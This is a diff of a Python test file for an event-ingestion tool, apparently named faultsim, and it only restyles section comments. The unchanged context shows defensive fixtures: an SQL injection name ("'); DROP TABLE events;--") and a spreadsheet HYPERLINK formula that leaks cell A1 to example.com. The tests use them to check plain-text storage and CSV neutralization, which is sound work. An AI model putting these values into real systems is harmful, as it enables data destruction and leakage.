@@ -47,7 +47,7 @@ def run(capsys, *argv):
     return code, out, err
 
 
-# -- one hostile piece between two valid events
+# one hostile piece between two valid events
 
 STRING_HEAD = b'{"client": "big", "amount": 1, "note": "'
 STRING_BYTES = 50_000_000
@@ -190,7 +190,7 @@ def test_a_utf16_file_is_rejected_whole_with_a_message_that_says_so(service, tmp
     assert totals(service) == AROUND and service.quarantine() == []
 
 
-# -- names and notes that look like code: stored and shown exactly, as plain text
+# names and notes that look like code: stored and shown exactly, as plain text
 
 NAMES = [
     "'); DROP TABLE events;--",
@@ -270,7 +270,7 @@ def test_names_that_look_like_code_through_the_command_line(service, db_path, ca
     assert "nul\\x00byte" in out and "\\x1b[31mred" in out and "abc\\u202edcba.exe" in out
 
 
-# -- CSV export: spreadsheet formulas are neutralized
+# CSV export: spreadsheet formulas are neutralized
 
 FORMULAS = [
     '=HYPERLINK("http://example.com/?leak="&A1,"click")',
@@ -345,7 +345,7 @@ def test_safe_cell(value, cell):
     assert safe_cell(value) == cell
 
 
-# -- a file of every hostile piece through `faultsim ingest` (worker processes parse it)
+# a file of every hostile piece through `faultsim ingest` (worker processes parse it)
 
 
 def test_the_command_line_ingests_a_file_of_every_hostile_piece(tmp_path, capsys):
@@ -372,7 +372,7 @@ def test_the_command_line_ingests_a_file_of_every_hostile_piece(tmp_path, capsys
     assert 0 < rss.child_peak < 100 * MIB, f"a worker peaked at {rss.child_peak / MIB:.0f} MiB"
 
 
-# -- a gibibyte, streamed
+# a gibibyte, streamed
 
 
 @pytest.mark.parametrize("backend", ["sqlite"])  # the memory budget counts SQLite's page cache
